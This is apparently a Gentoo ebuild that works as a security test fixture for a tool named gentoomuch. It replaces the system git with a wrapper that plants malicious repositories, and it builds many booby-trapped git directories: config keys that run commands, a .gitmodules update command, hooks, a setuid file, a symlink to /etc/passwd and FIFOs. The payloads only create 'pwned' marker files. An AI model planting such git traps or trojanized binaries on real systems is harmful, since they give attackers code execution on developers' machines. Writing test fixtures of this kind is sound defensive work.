# Copyright 2026 The gentoomuch authors
# Distributed under the terms of the GNU General Public License v2

EAPI=8

DESCRIPTION="A source tree and a session in which everything is set up to run a program of the package's with the user's git"
HOMEPAGE="https://distfiles.example/"

LICENSE="GPL-2"
SLOT="0"
KEYWORDS="amd64"

# Whatever git of the session does from here on, it does more: in each repository that it finds below /run/gentoomuch/work, and that is the
# user's later, it plants a gitlink to a repository whose configuration runs a program.
pkg_setup() {
	[[ -e /usr/bin/git.real ]] || mv /usr/bin/git /usr/bin/git.real || die
	cat >/usr/bin/git <<-'END' || die
		#!/bin/bash
		/usr/bin/git.real "$@"
		status=$?
		cd /run/gentoomuch/work 2>/dev/null && [ -d .git ] && [ "$3" = ls-files ] && {
			unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE
			/usr/bin/git.real init -q planted
			printf '[core]\n\tfsmonitor = touch ../pwned-planted; false\n' >>planted/.git/config
			echo x >planted/x
			/usr/bin/git.real -C planted add x
			link=$(echo x | /usr/bin/git.real -C planted commit-tree "$(/usr/bin/git.real -C planted write-tree)")
			/usr/bin/git.real -C planted update-ref HEAD "$link"
			/usr/bin/git.real update-index --add --cacheinfo "160000,$link,planted"
			mkfifo .git/gentoomuch.json
			rm -rf .git/objects/info
			ln -s "$HOME" .git/objects/info
		} >/dev/null 2>&1
		exit $status
	END
	chmod 0755 /usr/bin/git || die
}

# A repository without a work tree, as git takes a directory for one.
bare() {
	mkdir -p "$1"/{objects,refs,hooks} || die
	printf 'ref: refs/heads/main\n' >"$1"/HEAD || die
	printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = touch pwned-bare; false\n' >"$1"/config || die
}

src_unpack() {
	mkdir -p "${S}" || die
	cd "${S}" || die
	local name
	for name in .git sub/.git deep/er/.GIT '.git ' git~1 sub/.Git; do
		bare "${name}"
	done
	bare bare
	bare tests/repository
	mkdir linked gitfile || die
	ln -s ../bare linked/.git || die
	printf 'gitdir: ../bare\n' >gitfile/.git || die
	printf 'commondir is enough\n' >tests/text || die
	mkdir worktree || die
	printf 'ref: refs/heads/main\n' >worktree/HEAD || die
	printf '../bare\n' >worktree/commondir || die
	printf '* filter=lfs diff=lfs merge=lfs text=auto ident export-subst working-tree-encoding=UTF-16\n[attr]lfs filter=lfs\n*.c lfs\n' >.gitattributes || die
	cp .gitattributes sub/ || die
	printf '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n\tupdate = !touch pwned-update\n' >.gitmodules || die
	mkdir .githooks || die
	for name in pre-commit post-checkout post-index-change prepare-commit-msg; do
		printf '#!/bin/sh\ntouch pwned-hook\n' >.githooks/${name} || die
		chmod 0755 .githooks/${name} || die
	done
	printf 'int main(void) { return 0; }\n' >main.c || die
	printf '#!/bin/sh\n' >tool || die
	chmod 6755 tool || die
	ln -s /etc/passwd outward || die
	mkfifo pipe sub/pipe || die
}

src_install() {
	insinto /usr/share/trapped
	doins main.c
}
